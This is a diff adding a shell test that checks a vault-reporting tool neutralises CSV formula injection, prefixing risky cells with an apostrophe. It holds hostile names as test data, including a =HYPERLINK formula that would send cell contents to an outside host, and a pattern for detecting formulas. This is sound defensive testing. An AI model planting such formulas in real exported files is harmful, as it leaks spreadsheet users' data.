@@ -1,0 +1,59 @@
+#!/bin/sh
+# output_safety.sh: outputs safe to open, share and rerun into. Names an
+# attacker chose (a formula, a leading @ or -) reach no spreadsheet as a
+# formula: every CSV cell that would run gets an apostrophe, which our own
+# readers take off again (report reads plan.csv back unchanged), and
+# --csv-raw opts out.
+. tests/e2e/lib.sh
+BASE="$VW_TOP/tests/bad/base-snapshot"
+SNAP="$T/snap"
+python3 "$VW_TOP/tests/e2e/hostile_names.py" "$BASE" "$SNAP"
+
+# formulas OUT: every cell in OUT's CSVs that a spreadsheet would run.
+formulas() {
+	python3 - "$1" <<'PY'
+import csv, glob, os, re, sys
+number = re.compile(r'[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$')
+for path in sorted(glob.glob(os.path.join(sys.argv[1], '**', '*.csv'),
+                             recursive=True)):
+    with open(path, newline='') as f:
+        for row in csv.reader(f):
+            for cell in row:
+                if cell[:1] and cell[0] in '=+-@\t\r' and \
+                        not number.match(cell):
+                    print(os.path.relpath(path, sys.argv[1]), cell)
+PY
+}
+
+expect_exit 0 "run on a snapshot with hostile names" \
+	"$VAULTWISE" run --snapshot "$SNAP" --out "$T/run"
+formulas "$T/run" >"$T/formulas"
+check "no CSV cell of run's output would run as a formula" \
+	test ! -s "$T/formulas"
+sed 's/^/# /' "$T/formulas" | head -n 5
+check "plan.csv holds the =HYPERLINK name with an apostrophe" \
+	python3 - "$T/run/plan/plan.csv" <<'PY'
+import csv, sys
+names = [r['item_name'] for r in csv.DictReader(open(sys.argv[1], newline=''))]
+assert '\'=HYPERLINK("http://x/?"&A1,"x")' in names, set(names)
+PY
+for f in report/vaults.csv report/policies.csv posture.csv; do
+	grep_ok "$f neutralises the vault name -dev" "(^|,)'-dev(,|$)" \
+		"$T/run/$f"
+done
+grep_ok "report/policies.csv neutralises the policy name @SUM(1)" \
+	"(^|,)'@SUM\(1\)(,|$)" "$T/run/report/policies.csv"
+grep_ok "rpo_rto.csv neutralises the =HYPERLINK item name" \
+	"\"'=HYPERLINK" "$T/run/rpo_rto.csv"
+# report read plan.csv back: the page shows the names as they are
+grep_ok "report.html shows the name as it is (read back from plan.csv)" \
+	">-dev<" "$T/run/report/report.html"
+check "report.html has no apostrophe the CSV reader left on" \
+	sh -c "! grep -Eq \"(&#39;|&#x27;|')(-dev|@SUM|=HYPERLINK)\" \
+		'$T/run/report/report.html'"
+
+expect_exit 0 "run --csv-raw writes the cells as they are" \
+	"$VAULTWISE" run --snapshot "$SNAP" --out "$T/raw" --csv-raw
+grep_ok "with --csv-raw plan.csv has the raw =HYPERLINK" \
+	'(^|,)"=HYPERLINK' "$T/raw/plan/plan.csv"
+finish
